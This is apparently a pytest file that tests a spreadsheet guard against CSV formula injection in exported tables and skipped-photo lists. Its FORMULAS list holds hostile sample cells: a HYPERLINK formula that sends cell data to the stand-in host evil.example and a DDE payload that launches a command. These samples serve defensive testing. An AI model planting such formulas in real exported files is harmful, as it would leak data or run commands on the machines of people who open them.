"""Names of people and files are text in a spreadsheet, whatever they look like."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from mfr_kit import spreadsheet
from mfr_kit.data.face_set.faceset_files import SKIPPED_COLUMNS, read_skipped
from mfr_kit.data.photographs.skipped_list import write_skipped

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"anna")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert spreadsheet.guard(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["anna", "-0.25", "+1e-4", "1,234", "", "a=b", -0.5, None, 7])
def test_numbers_and_plain_names_stay(cell) -> None:
    assert spreadsheet.guard(cell) == cell


@settings(deadline=None)
@given(some.text(alphabet="'=+-@\t\r\n1.ae＝", max_size=8) | some.text(max_size=8))
def test_a_reader_gets_the_name_back(text: str) -> None:
    assert spreadsheet.unguard(spreadsheet.guard(text)) == text


def test_a_table_holds_guarded_cells(tmp_path) -> None:
    rows = [{"model": text, "tar": -0.5} for text in FORMULAS]
    spreadsheet.write_table(tmp_path / "table.csv", ("model", "tar"), rows)
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        cells = [(row["model"], row["tar"]) for row in csv.DictReader(file)]
    assert cells == [(f"'{text}", "-0.5") for text in FORMULAS]


def test_skipped_photographs_keep_their_names(tmp_path) -> None:
    """A person called `=1+1` is no formula in skipped.csv, and the set still knows the name."""
    wanted = [
        dict.fromkeys(SKIPPED_COLUMNS, "")
        | {"source": f"{text}/1.jpg", "identity": text, "reason": "unreadable"}
        for text in FORMULAS
    ]
    write_skipped(tmp_path / "skipped.csv", wanted)
    with (tmp_path / "skipped.csv").open(encoding="utf-8", newline="") as file:
        shown = list(csv.DictReader(file))
    assert all(row[name][0] == "'" for row in shown for name in ("source", "identity"))
    assert read_skipped(tmp_path) == wanted
